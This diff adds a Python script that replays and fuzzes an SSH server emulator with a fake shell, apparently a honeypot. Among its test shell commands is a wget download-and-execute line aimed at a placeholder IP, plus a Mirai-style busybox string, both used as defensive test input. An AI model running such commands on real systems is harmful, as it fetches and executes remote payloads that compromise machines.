@@ -0,0 +1,196 @@
+"""Replay the recorded SSH handshake corpus and fuzz SSHServerSession with mutations of it.
+
+  * replay: every corpus entry is fed back (as recorded, byte by byte and in random
+    chunks) and must yield exactly the recorded client version, auth attempts and error
+  * raw mutations: bit flips, byte edits, insertions, deletions, truncation and
+    splicing of recorded client streams
+  * payload mutations: the scripted client mutates its plaintext payloads before
+    encryption, so the post-handshake parsers see malformed messages with valid MACs;
+    half of these sessions log into the emulated shell and type commands
+
+receive() may reject input but must never raise. Crashing inputs are written to
+ssh_corpus/crashes/.
+
+Usage:
+    python benchmarks/fuzz_ssh_protocol.py --iterations 20000 --seed 1
+"""
+import argparse
+import base64
+import glob
+import json
+import os
+import random
+import sys
+import traceback
+
+sys.path.insert(0, os.path.dirname(os.path.dirname(os.path.abspath(__file__))))
+
+from fake_shell import ShellSession
+from ssh_protocol import SSHPacketWriter
+from ssh_client import ScriptedSSHClient, converse, deterministic_random
+from record_ssh_handshake import CORPUS_DIR, new_session, expected_capture
+
+
+def load_corpus():
+    corpus = []
+    for path in sorted(glob.glob(os.path.join(CORPUS_DIR, '*.json'))):
+        with open(path) as f:
+            entry = json.load(f)
+        entry['name'] = os.path.splitext(os.path.basename(path))[0]
+        entry['chunks'] = [base64.b64decode(chunk) for chunk in entry['chunks']]
+        corpus.append(entry)
+    return corpus
+
+
+def run_session(random_seed, chunks):
+    session = new_session(random_seed.encode())
+    session.start()
+    for chunk in chunks:
+        if session.closed:
+            break
+        session.receive(chunk)
+    return session
+
+
+def rechunk(data, rng, max_size):
+    chunks = []
+    position = 0
+    while position < len(data):
+        size = rng.randint(1, max_size)
+        chunks.append(data[position:position + size])
+        position += size
+    return chunks
+
+
+def replay(corpus, rng):
+    failures = 0
+    for entry in corpus:
+        stream = b''.join(entry['chunks'])
+        for label, chunks in (('recorded', entry['chunks']),
+                              ('bytewise', rechunk(stream, rng, 1)),
+                              ('random', rechunk(stream, rng, 97))):
+            captured = json.loads(json.dumps(expected_capture(run_session(entry['random_seed'], chunks))))
+            if captured != entry['expected']:
+                failures += 1
+                print(f"REPLAY MISMATCH {entry['name']} ({label}): {captured} != {entry['expected']}")
+    return failures
+
+
+def mutate(data, rng, corpus):
+    data = bytearray(data)
+    for _ in range(rng.randint(1, 4)):
+        choice = rng.randrange(6)
+        position = rng.randrange(len(data) + 1)
+        if choice == 0 and data:
+            data[min(position, len(data) - 1)] ^= 1 << rng.randrange(8)
+        elif choice == 1 and data:
+            data[min(position, len(data) - 1)] = rng.choice([0, 0xff, 0x7f, 0x80, rng.randrange(256)])
+        elif choice == 2:
+            data[position:position] = bytes(rng.randrange(256) for _ in range(rng.randint(1, 16)))
+        elif choice == 3:
+            del data[position:position + rng.randint(1, 64)]
+        elif choice == 4:
+            del data[position:]
+        else:
+            other = b''.join(rng.choice(corpus)['chunks'])
+            start = rng.randrange(len(other) + 1)
+            data[position:position] = other[start:start + rng.randint(1, 256)]
+    return bytes(data)
+
+
+class ServerCrash(Exception):
+    pass
+
+
+def guarded(session):
+    """Make session.receive() exceptions distinguishable from the scripted client's own failures"""
+    receive = session.receive
+
+    def wrapper(data):
+        try:
+            return receive(data)
+        except Exception:
+            raise ServerCrash(traceback.format_exc())
+    session.receive = wrapper
+    return session
+
+
+SHELL_COMMANDS = [
+    'uname -a', 'cd /tmp; wget http://203.0.113.7/x.sh; chmod +x x.sh; ./x.sh', 'cat /proc/cpuinfo | grep name | wc -l',
+    'echo -e "\\x41" > /tmp/a', 'ls -la / /nonexistent', '/bin/busybox MIRAI', 'bash -c "id"', "echo 'unterminated",
+]
+
+
+class MutatingWriter(SSHPacketWriter):
+    """Packet writer that corrupts plaintext payloads before they are framed and encrypted"""
+
+    def __init__(self, rng, corpus, random_bytes, rate=0.3):
+        super().__init__(random_bytes)
+        self.rng = rng
+        self.corpus = corpus
+        self.rate = rate
+
+    def build(self, payload):
+        if self.rng.random() < self.rate:
+            payload = mutate(payload, self.rng, self.corpus)
+        return super().build(payload)
+
+
+def record_crash(kind, data, error):
+    directory = os.path.join(CORPUS_DIR, 'crashes')
+    os.makedirs(directory, exist_ok=True)
+    path = os.path.join(directory, f"{kind}-{abs(hash(data)):x}.bin")
+    with open(path, 'wb') as f:
+        f.write(data)
+    print(f"CRASH ({kind}) saved to {path}:\n{error}")
+
+
+def fuzz(corpus, rng, iterations):
+    crashes = 0
+    for i in range(iterations):
+        entry = rng.choice(corpus)
+        if i % 2 == 0:
+            data = mutate(b''.join(entry['chunks']), rng, corpus)
+            try:
+                run_session(entry['random_seed'], rechunk(data, rng, 512))
+            except Exception:
+                crashes += 1
+                record_crash('raw', data, traceback.format_exc())
+        else:
+            seed = f"fuzz-{i}".encode()
+            shell = rng.random() < 0.5
+            client = ScriptedSSHClient(passwords=['a', 'b', 'c', 'd'], random_bytes=deterministic_random(seed),
+                                       ciphers=[rng.choice(['chacha20-poly1305@openssh.com', 'aes128-ctr'])],
+                                       commands=rng.sample(SHELL_COMMANDS, 4) if shell else None)
+            # Mutate shell sessions less often so that most of them get past login
+            client.writer = MutatingWriter(rng, corpus, client.random_bytes, rate=0.05 if shell else 0.3)
+            record = []
+            try:
+                converse(guarded(new_session(seed, ShellSession if shell else None)), client, record)
+            except ServerCrash as e:
+                crashes += 1
+                record_crash('payload', b''.join(record), str(e))
+            except Exception:
+                pass  # the scripted client choking on the server's rejection is not a finding
+    return crashes
+
+
+def main():
+    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
+    parser.add_argument('--iterations', type=int, default=20000)
+    parser.add_argument('--seed', type=int, default=1)
+    args = parser.parse_args()
+
+    rng = random.Random(args.seed)
+    corpus = load_corpus()
+    mismatches = replay(corpus, rng)
+    print(f"Replayed {len(corpus)} recorded handshakes: {mismatches} mismatches")
+
+    crashes = fuzz(corpus, rng, args.iterations)
+    print(f"Fuzzed {args.iterations} inputs: {crashes} crashes")
+    if mismatches or crashes:
+        raise SystemExit(1)
+
+
+if __name__ == '__main__':
+    main()